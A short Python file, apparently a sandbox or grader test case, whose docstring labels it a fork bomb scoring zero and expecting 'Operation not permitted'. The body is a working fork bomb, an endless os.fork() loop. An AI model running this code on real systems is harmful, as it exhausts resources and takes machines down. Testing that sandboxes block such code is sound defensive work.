"""tries: a fork bomb
earns: 0
says: Operation not permitted
"""

import os

while True:
    os.fork()
